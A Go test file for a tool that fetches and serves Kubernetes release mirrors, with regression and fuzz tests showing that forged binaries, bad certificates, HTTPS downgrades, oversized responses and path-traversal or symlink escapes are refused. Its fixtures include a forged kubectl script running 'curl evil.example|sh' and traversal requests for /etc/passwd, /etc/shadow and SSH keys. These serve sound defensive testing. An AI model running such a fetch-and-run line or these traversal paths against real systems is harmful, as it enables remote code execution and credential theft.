package fetch

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"
)

// forgedKubectl is the hostile mirror's kubectl: 33 bytes of shell.
const forgedKubectl = "#!/bin/sh\ncurl evil.example|sh\n#"

// hostileRelease is a release whose kubectl is forged, with a .sha256 that
// matches the forgery.
func hostileRelease(t *testing.T) *release {
	r := newRelease(t)
	p := r.kubePath("kubectl")
	r.files[p] = []byte(forgedKubectl)
	r.files[p+".sha256"] = []byte(sha([]byte(forgedKubectl)))
	return r
}

func certFingerprint(srv *httptest.Server) string {
	sum := sha256.Sum256(srv.Certificate().Raw)
	return hex.EncodeToString(sum[:])
}

// mirrorWithTraps is a mirror directory in the layout, next to a room's data
// directory, with symlinks that lead out of the mirror to the room's
// secrets and to /etc/passwd, one that stays inside, and a FIFO.
func mirrorWithTraps(t testing.TB) (mirror, secret string) {
	t.Helper()
	base := t.TempDir()
	mirror = filepath.Join(base, "mirror")
	data := filepath.Join(base, "room")
	secret = "instructor-token join-token: the room's secrets"
	mk := func(p, body string) {
		full := filepath.Join(mirror, p)
		if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(full, []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	link := func(target, p string) {
		full := filepath.Join(mirror, p)
		if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink(target, full); err != nil {
			t.Fatal(err)
		}
	}
	os.MkdirAll(filepath.Join(data, "v3.6.4"), 0o700)
	os.WriteFile(filepath.Join(data, "room.db"), []byte(secret), 0o600)
	os.WriteFile(filepath.Join(data, "v3.6.4", "SHA256SUMS"), []byte(secret), 0o600)
	amd := "kubernetes/v1.37.2/bin/linux/amd64/"
	mk(amd+"kubelet", "the kubelet")
	mk(amd+"kubelet.sha256", sha([]byte("the kubelet")))
	mk("kubernetes/notes.txt", "not in the layout")
	// Out of the mirror: relative, absolute, and through a directory.
	link("../../../../../../room/room.db", amd+"kubectl")
	link(filepath.Join(data, "room.db"), amd+"kubectl.sha256")
	link("/etc/passwd", "cni/v1.6.2/cni-plugins-linux-amd64-v1.6.2.tgz.sha256")
	link(data, "etcd/v3.6.4")
	// Inside the mirror: fine.
	link("../amd64/kubelet", "kubernetes/v1.37.2/bin/linux/arm64/kubelet")
	os.MkdirAll(filepath.Join(mirror, "cni/v1.6.2"), 0o755)
	if err := syscall.Mkfifo(filepath.Join(mirror, "cni/v1.6.2/cni-plugins-linux-amd64-v1.6.2.tgz"), 0o644); err != nil {
		t.Fatal(err)
	}
	return mirror, secret
}

// get asks h for path as a raw request path (no client cleans it).
func get(h http.Handler, method, path string) (int, string) {
	req := &http.Request{Method: method, URL: &url.URL{Path: path}, Header: http.Header{}, RemoteAddr: "192.0.2.1:1"}
	req = req.WithContext(context.Background())
	rec := httptest.NewRecorder()
	done := make(chan struct{})
	go func() { defer close(done); h.ServeHTTP(rec, req) }()
	select {
	case <-done:
	case <-time.After(10 * time.Second):
		return -1, "hangs"
	}
	body, _ := io.ReadAll(rec.Result().Body)
	return rec.Code, string(body)
}

// TestDefects has the cases of issue 18 ("hostile input, round two") that
// concern fetch and the mirror. Each failed before its fix (a forged binary
// installed, a file outside the mirror served) and passes after.
func TestDefects(t *testing.T) {
	cases := []struct {
		name string
		run  func(t *testing.T)
	}{
		{
			name: "2 a plain-HTTP mirror with a forged kubectl and its matching .sha256",
			run: func(t *testing.T) {
				srv := hostileRelease(t).serve(t)
				o := testOptions(t, srv)
				o.InsecureHTTP = false
				_, err := Run(context.Background(), o)
				var ph *PlainHTTPError
				if !errors.As(err, &ph) || !IsUsage(err) || !strings.Contains(err.Error(), "refusing the plain-HTTP mirror http://127.0.0.1:") ||
					!strings.Contains(err.Error(), "or pass --insecure-mirror to take that risk") {
					t.Errorf("plain-HTTP mirror: %v", err)
				}
				if _, err := os.Stat(filepath.Join(o.BinDir, "kubectl")); err == nil {
					t.Errorf("the forged kubectl was installed")
				}
			},
		},
		{
			name: "2 an https mirror whose certificate is not the pinned room's",
			run: func(t *testing.T) {
				srv := httptest.NewTLSServer(hostileRelease(t))
				defer srv.Close()
				o := testOptions(t, srv)
				o.InsecureHTTP = false
				o.HTTP.Retries = -1
				o.HTTP.Fingerprint = strings.Repeat("ab", 32)
				_, err := Run(context.Background(), o)
				if err == nil || !strings.Contains(err.Error(), "not the room's pinned") {
					t.Errorf("wrong certificate: %v", err)
				}
				if _, err := os.Stat(filepath.Join(o.BinDir, "kubectl")); err == nil {
					t.Errorf("the forged kubectl was installed")
				}
			},
		},
		{
			name: "2 an https mirror whose certificate does not verify, unpinned",
			run: func(t *testing.T) {
				srv := httptest.NewTLSServer(hostileRelease(t))
				defer srv.Close()
				o := testOptions(t, srv)
				o.InsecureHTTP = false
				o.HTTP.Retries = -1
				_, err := Run(context.Background(), o)
				if err == nil || !strings.Contains(err.Error(), "certificate") {
					t.Errorf("unverified certificate: %v", err)
				}
				if _, err := os.Stat(filepath.Join(o.BinDir, "kubectl")); err == nil {
					t.Errorf("the forged kubectl was installed")
				}
			},
		},
		{
			name: "2 the room's mirror, pinned to the room's certificate",
			run: func(t *testing.T) {
				srv := httptest.NewTLSServer(newRelease(t))
				defer srv.Close()
				o := testOptions(t, srv)
				o.InsecureHTTP = false
				o.HTTP.Fingerprint = certFingerprint(srv)
				if _, err := Run(context.Background(), o); err != nil {
					t.Fatalf("pinned mirror: %v", err)
				}
				if _, err := os.Stat(filepath.Join(o.BinDir, "kubectl")); err != nil {
					t.Errorf("kubectl: %v", err)
				}
			},
		},
		{
			name: "2 a pinned https mirror that redirects to plain HTTP",
			run: func(t *testing.T) {
				plain := hostileRelease(t).serve(t)
				srv := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
					http.Redirect(w, r, plain.URL+r.URL.Path, http.StatusFound)
				}))
				defer srv.Close()
				o := testOptions(t, srv)
				o.InsecureHTTP = false
				o.HTTP.Retries = -1
				o.HTTP.Fingerprint = certFingerprint(srv)
				o.Components = []Component{Kubernetes}
				_, err := Run(context.Background(), o)
				if err == nil || !strings.Contains(err.Error(), "it leaves HTTPS") {
					t.Errorf("redirect to http: %v", err)
				}
			},
		},
		{
			name: "3 the mirror's own layout only: no way out through symlinks, no listings, no FIFO",
			run: func(t *testing.T) {
				mirror, secret := mirrorWithTraps(t)
				h := Handler(mirror, nil)
				for _, tc := range []struct {
					path string
					code int
					body string
				}{
					{"/kubernetes/v1.37.2/bin/linux/amd64/kubelet", 200, "the kubelet"},
					{"/kubernetes/v1.37.2/bin/linux/arm64/kubelet", 200, "the kubelet"},
					{"/kubernetes/v1.37.2/bin/linux/amd64/kubectl", 404, ""},
					{"/kubernetes/v1.37.2/bin/linux/amd64/kubectl.sha256", 404, ""},
					{"/etcd/v3.6.4/SHA256SUMS", 404, ""},
					{"/cni/v1.6.2/cni-plugins-linux-amd64-v1.6.2.tgz.sha256", 404, ""},
					{"/cni/v1.6.2/cni-plugins-linux-amd64-v1.6.2.tgz", 404, ""},
					{"/kubernetes/notes.txt", 404, ""},
					{"/", 404, ""},
					{"/kubernetes/", 404, ""},
					{"/kubernetes/v1.37.2/bin/linux/amd64/", 404, ""},
					{"/kubernetes/v1.37.2/bin/linux/amd64/../amd64/kubelet", 404, ""},
					{"/kubernetes//v1.37.2/bin/linux/amd64/kubelet", 404, ""},
					{"/../room/room.db", 404, ""},
				} {
					code, body := get(h, "GET", tc.path)
					if code != tc.code || (tc.body != "" && body != tc.body) || strings.Contains(body, secret) || strings.Contains(body, "root:") {
						t.Errorf("GET %s: %d %q, want %d %q", tc.path, code, body, tc.code, tc.body)
					}
				}
			},
		},
		{
			name: "3 a hard link to a file outside the mirror is not served; one whose links are all inside is",
			run: func(t *testing.T) {
				base := t.TempDir()
				mirror := filepath.Join(base, "mirror")
				secret := "instructor-token join-token: the room's secrets"
				os.MkdirAll(filepath.Join(base, "room"), 0o700)
				db := filepath.Join(base, "room", "room.db")
				os.WriteFile(db, []byte(secret), 0o600)
				amd := filepath.Join(mirror, "kubernetes/v1.37.2/bin/linux/amd64")
				arm := filepath.Join(mirror, "kubernetes/v1.37.2/bin/linux/arm64")
				os.MkdirAll(amd, 0o755)
				os.MkdirAll(arm, 0o755)
				os.WriteFile(filepath.Join(amd, "kubelet"), []byte("the kubelet"), 0o755)
				for _, l := range []struct{ from, to string }{
					{db, filepath.Join(amd, "kubectl")},                            // out of the mirror
					{filepath.Join(amd, "kubelet"), filepath.Join(arm, "kubelet")}, // inside it
				} {
					if err := os.Link(l.from, l.to); err != nil {
						t.Fatal(err)
					}
				}
				var log strings.Builder
				h := Handler(mirror, &log)
				for _, tc := range []struct {
					path string
					code int
					body string
				}{
					{"/kubernetes/v1.37.2/bin/linux/amd64/kubectl", 404, ""},
					{"/kubernetes/v1.37.2/bin/linux/amd64/kubelet", 200, "the kubelet"},
					{"/kubernetes/v1.37.2/bin/linux/arm64/kubelet", 200, "the kubelet"},
				} {
					code, body := get(h, "GET", tc.path)
					if code != tc.code || (tc.body != "" && body != tc.body) || strings.Contains(body, secret) {
						t.Errorf("GET %s: %d %q, want %d %q", tc.path, code, body, tc.code, tc.body)
					}
				}
				if want := "amd64/kubectl 19 B (refused: the file has 2 hard links and only 1 in the mirror, so it is also a file outside it; copy it into the mirror instead of linking it)"; !strings.Contains(log.String(), want) {
					t.Errorf("the log does not say why:\n%s", log.String())
				}
			},
		},
		{
			name: "13 a mirror that sends more than MaxSize without announcing it: stopped there, nothing installed",
			run: func(t *testing.T) {
				r := newRelease(t)
				h := r.serve(t)
				srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
					if strings.HasSuffix(req.URL.Path, "/kubectl") {
						chunk := make([]byte, 64<<10)
						for i := 0; i < 64; i++ { // 4 MiB, chunked
							if _, err := w.Write(chunk); err != nil {
								return
							}
							w.(http.Flusher).Flush()
						}
						return
					}
					resp, err := http.Get(h.URL + req.URL.Path)
					if err != nil {
						http.Error(w, err.Error(), http.StatusBadGateway)
						return
					}
					defer resp.Body.Close()
					w.WriteHeader(resp.StatusCode)
					io.Copy(w, resp.Body)
				}))
				defer srv.Close()
				o := testOptions(t, srv)
				o.HTTP.MaxSize = 1 << 20
				o.Components = []Component{Kubernetes}
				_, err := Run(context.Background(), o)
				if err == nil || !strings.Contains(err.Error(), "/kubectl: the server sent more than the 1.0 MB a release file can be: stopped") {
					t.Errorf("an endless kubectl: %v", err)
				}
				if _, err := os.Stat(filepath.Join(o.BinDir, "kubectl")); err == nil {
					t.Errorf("kubectl was installed")
				}
				if l := leftovers(t, o.BinDir); len(l) > 0 {
					t.Errorf("leftovers: %v", l)
				}
			},
		},
		{
			name: "3 a mirror served from /",
			run: func(t *testing.T) {
				h := Handler("/", nil)
				for _, p := range []string{"/etc/shadow", "/etc/passwd", "/root/.ssh/id_rsa"} {
					if code, body := get(h, "GET", p); code != 404 {
						t.Errorf("GET %s from /: %d %.40q", p, code, body)
					}
				}
				if _, err := CheckMirrorDir("/"); err == nil || !strings.Contains(err.Error(), "serve /: that is the whole file system") {
					t.Errorf("CheckMirrorDir(/): %v", err)
				}
			},
		},
		{
			name: "3 a home directory as the mirror",
			run: func(t *testing.T) {
				home := filepath.Join(t.TempDir(), "home", "ada")
				os.MkdirAll(home, 0o755)
				t.Setenv("HOME", home)
				if _, err := CheckMirrorDir(home); err == nil || !strings.Contains(err.Error(), "it is a home directory, with keys and secrets") {
					t.Errorf("CheckMirrorDir(home): %v", err)
				}
				if _, err := CheckMirrorDir(filepath.Dir(home)); err == nil || !strings.Contains(err.Error(), "holds the home directory") {
					t.Errorf("CheckMirrorDir(parent of home): %v", err)
				}
				sub := filepath.Join(home, "workshop", "mirror")
				os.MkdirAll(sub, 0o755)
				if _, err := CheckMirrorDir(sub); err != nil {
					t.Errorf("a mirror inside the home: %v", err)
				}
			},
		},
	}
	for _, c := range cases {
		t.Run(c.name, c.run)
	}
}

// FuzzMirrorRequest sends any request path to a mirror laid out next to a
// room's secrets, with symlinks out of it: what MirrorFile accepts is a
// local path of the layout, and nothing served is ever from outside.
func FuzzMirrorRequest(f *testing.F) {
	for _, p := range []string{
		"/kubernetes/v1.37.2/bin/linux/amd64/kubelet", "/kubernetes/v1.37.2/bin/linux/amd64/kubectl", "/kubernetes/v1.37.2/bin/linux/amd64/kubectl.sha256",
		"/etcd/v3.6.4/SHA256SUMS", "/etcd/v3.6.4/etcd-v3.6.4-linux-amd64.tar.gz", "/cni/v1.6.2/cni-plugins-linux-amd64-v1.6.2.tgz.sha256",
		"/", "", "/..", "/../room/room.db", "/etc/shadow", "/kubernetes/../../room/room.db", "/kubernetes/v1.37.2/bin/linux/amd64/../../../../../../room/room.db",
		"/kubernetes/v1.37.2/bin/linux/amd64/.kubelet.tmp", "/kubernetes/v1.37.2/bin/linux/amd64/kubelet.sha256.sha256", "//etc/passwd",
		"/kubernetes/v1.37.2-rc.0/bin/linux/arm64/kubelet", "/kubernetes/v1.37.2/bin/linux/amd64/kubelet/", "\x00", "/kubernetes/v1.37.2/bin/linux/amd64/kubelet\x00",
	} {
		f.Add(p)
	}
	mirror, secret := mirrorWithTraps(f)
	h := Handler(mirror, io.Discard)
	f.Fuzz(func(t *testing.T, p string) {
		if rel, ok := MirrorFile(p); ok {
			if !filepath.IsLocal(rel) || "/"+rel != p || strings.Contains(p, "/.") || strings.Contains(p, "//") {
				t.Fatalf("MirrorFile(%q) accepted %q", p, rel)
			}
		}
		code, body := get(h, "GET", p)
		if code == -1 {
			t.Fatalf("GET %q hangs", p)
		}
		if code == 200 && body != "the kubelet" && body != sha([]byte("the kubelet")) {
			t.Fatalf("GET %q served %.60q", p, body)
		}
		if strings.Contains(body, secret) || strings.Contains(body, "root:") {
			t.Fatalf("GET %q served what is outside the mirror", p)
		}
	})
}
